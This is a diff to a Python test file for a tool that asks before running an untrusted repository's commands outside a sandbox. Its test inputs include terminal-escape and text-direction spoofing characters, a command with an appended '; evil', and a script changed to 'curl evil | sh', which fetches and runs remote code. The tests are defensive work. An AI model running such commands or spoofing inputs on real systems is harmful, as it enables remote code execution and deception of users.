@@ -73,9 +73,10 @@ def test_a_prepare_py_that_is_not_ours_is_asked_about(
         shutil.rmtree(tmp_path / "new/nanogpt")
         shutil.copytree(ROOT / "nanogpt", tmp_path / "new/nanogpt")
     found = wishes(tmp_path / "new", memory)
+    files = "(with its files as they are now)"
     assert list(map(str, found.open)) == [
-        "prepare_command runs `{python} nanogpt/prepare.py` outside the fence, with network",
-        "judge_command runs `{python} nanogpt/judge.py` outside the fence after each training",
+        f"prepare_command runs `{{python}} nanogpt/prepare.py` outside the fence, with network {files}",
+        f"judge_command runs `{{python}} nanogpt/judge.py` outside the fence after each training {files}",
         "answers_command runs `{python} nanogpt/answers.py` with each saved model",
     ]
 
@@ -174,11 +175,30 @@ def test_a_cli_agent_obeys_the_program_of_a_stranger_only_once_it_is_trusted(
     assert [wish.name for wish in found.open] == asked
 
 
-def test_what_is_shown_of_a_wish_cannot_steer_a_terminal(repository: Path, memory: Path) -> None:
-    asks(repository, r'prepare_command = ["sh", "\u001b]0;x\u0007\u202e\n' + "y" * 900 + '"]')
+def test_what_is_shown_of_a_wish_cannot_steer_a_terminal_and_is_all_of_it(
+    repository: Path, memory: Path
+) -> None:
+    asks(repository, r'prepare_command = ["sh", "-c", "\u001b]0;x\u0007\u202e\n' + "y" * 1900 + '; evil"]')
     shown = str(wishes(repository, memory).open[0])
     assert shown.isprintable()
-    assert len(shown) < 300
+    assert "runs `sh -c 'yyy" in shown
+    assert shown.endswith("yyy; evil'` outside the fence, with network")
+
+
+def test_what_is_too_long_to_be_shown_cannot_be_agreed_to(repository: Path, memory: Path) -> None:
+    asks(repository, 'prepare_command = ["sh", "-c", "' + "echo ok; " * 300 + 'evil"]')
+    with pytest.raises(UsageError, match=r"`prepare_command` in autoresearch\.toml has more than 2,000"):
+        wishes(repository, memory)
+
+
+def test_a_command_whose_file_has_changed_is_asked_about_again(repository: Path, memory: Path) -> None:
+    (repository / "get.sh").write_text("curl data")
+    asks(repository, 'prepare_command = ["sh", "get.sh"]\ntrain_command = ["sh", "go.sh"]')
+    stranger.remember(wishes(repository, memory).accepted(), memory)
+    (repository / "go.sh").write_text("behind the fence")
+    assert wishes(repository, memory).open == []
+    (repository / "get.sh").write_text("curl evil | sh")
+    assert [wish.name for wish in wishes(repository, memory).open] == ["prepare_command"]
 
 
 def test_wrong_settings_are_refused_and_not_asked_about(repository: Path, memory: Path) -> None:
